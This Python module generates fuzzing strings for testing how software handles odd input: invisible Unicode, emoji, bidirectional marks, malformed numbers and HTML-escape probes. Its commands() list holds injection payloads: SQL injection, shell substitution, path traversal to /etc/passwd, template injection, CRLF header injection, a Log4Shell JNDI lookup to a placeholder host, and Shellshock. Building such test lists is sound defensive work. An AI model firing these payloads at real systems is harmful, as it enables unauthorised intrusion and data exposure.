"""Strings that break sites which are not ready for them, made here; and how text comes back that is taken."""

import re
from itertools import product
from unicodedata import normalize

MARK = "naughty"  # what the HTML strings try to make: an element, or an attribute, of this name
# Controls, marks that turn the direction of what follows, and what XML has no place for: never kept.
NEVER_KEPT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")


def as_kept(text):
    """Return what must come back of a text that is taken: all of it, composed, without what is never kept."""
    return NEVER_KEPT.sub("", normalize("NFC", re.sub("\r\n?", "\n", text))).strip()


def controls():
    codes = [*range(0x20), *range(0x7F, 0xA0)]
    return [f"a{chr(code)}b" for code in codes]


def invisible():
    """Marks that turn, join, hide or say nothing at all; private and unassigned places."""
    codes = [0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x180E, *range(0x200B, 0x2010)]
    codes += [*range(0x2028, 0x2030), *range(0x2060, 0x2070), 0x3164, 0xE000, 0xFDD0, 0xFE0F, 0xFEFF]
    codes += [*range(0xFFF9, 0x10000), 0xE0001, 0xE0041, 0xF0000, 0x10FFFF]
    return [f"left{chr(code)}right" for code in codes]


def pictures():
    faces = [chr(code) for code in range(0x1F600, 0x1F640)]
    people = [f"\U0001f469{skin}\u200d\U0001f4bb" for skin in map(chr, range(0x1F3FB, 0x1F400))]
    flags = [
        "\U0001f1ec\U0001f1e7",
        "\U0001f1ec",
        "\U0001f3f4\U000e0067\U000e0062\U000e007f",
        "1\ufe0f\u20e3",
    ]
    return [*faces, *people, *flags]


def scripts():
    heaped = ["a" + chr(code) * 40 for code in range(0x300, 0x340)]
    words = [
        "שלום עולם", "مرحبا بالعالم", "ﷺ", "สวัสดี", "नमस्ते", "각", "각", "é", "é", "ſ", "İi", "ß", "ΣΑΣ",
        "㍿", "\u202etxt.exe", "\u2067mixed\u2069 אב 12", "１２３", "ｆｕｌｌ", "Ω≈ç√∫˜µ≤≥÷", "田中さん",
    ]  # fmt: skip
    return [*heaped, *words]


def markup():
    """Every way out of a place in HTML, with every thing to do there."""
    ways = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "&lt;", ">"]
    deeds = [
        f"<{MARK}>", f'<{MARK} onclick="x()">', f"<{MARK}/src=x>", f"< {MARK}>", f"</{MARK}>",
        f' {MARK}-at="1', f" {MARK}-at=1 ", f'<scr\x00ipt>"{MARK}', f"javascript:{MARK}()",
        f"&#60;{MARK}&#62;", f"%3C{MARK}%3E", f"\\u003c{MARK}\\u003e",
    ]  # fmt: skip
    return [way + deed for way, deed in product(ways, deeds)]


def commands():
    """For databases, shells, templates, formats, files, headers, spreadsheets and loggers."""
    return [
        "'", '"', "''", "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "1; DROP TABLE x", "1' AND SLEEP(5)--",
        "') UNION SELECT 1,2,3--", "%' --", "_", "%", "\\", "\\'", "1/0", "(((", ")))", "*", "* OR *",
        "a:b:c", 'title:"', "+-&&||!(){}[]^~?:", "AND OR NOT", "a~9", "[a TO", "/.*/", "/(a+)+$/",
        "%s%s%s%s%n", "%d", "%(name)s", "%x" * 40, "{}", "{0}", "{0.__class__}", "{{ 7|add:7 }}",
        "{% debug %}", "{% load x %}", "${7*7}", "#{7*7}", "<%= 7 %>", "$(id)", "`id`", "; id", "| id",
        "&& id", "../../../../etc/passwd", "..\\..\\boot.ini", "/dev/null", "C:\\con", "file:///etc/passwd",
        "a\r\nSet-Cookie: x=1", "a\nBcc: all@example.org", "%0d%0aX: y", "=1+1", "@SUM(1)", "+1", "-1+1",
        "${jndi:ldap://x.invalid/a}", "() { :; }", "<?xml version='1.0'?>", "<!ENTITY x 'y'>", "null", "None",
        "undefined", "true", "[]", "[object Object]", '{"a": 1}', "__proto__", "constructor", "\ud7ff",
    ]  # fmt: skip


def numbers():
    return [
        "0", "-0", "-1", "00", "1.0", "1e309", "1e-400", "NaN", "Infinity", "-Infinity", "0x10", "0b1",
        "1_000", "1,000", " 1 ", "²", "①", "٣", "१", "Ⅳ", "½", "9" * 19, "9" * 400, "2147483648",
        "-9223372036854775809", "2015-13-45", "0000-00-00", "9999-12-31", "10000-01-01", "2015-02-30", "2015",
        "1e5", "+5", "５",
    ]  # fmt: skip


def lengths():
    letters = ["x", "é", "\U0001f4a9", " ", "<", "&", "%", "\u202e"]
    return [letter * length for letter in letters for length in (256, 2_001, 5_000)]


KINDS = [controls, invisible, pictures, scripts, markup, commands, numbers, lengths]
STRINGS = list(dict.fromkeys([*(text for kind in KINDS for text in kind()), "", " "]))
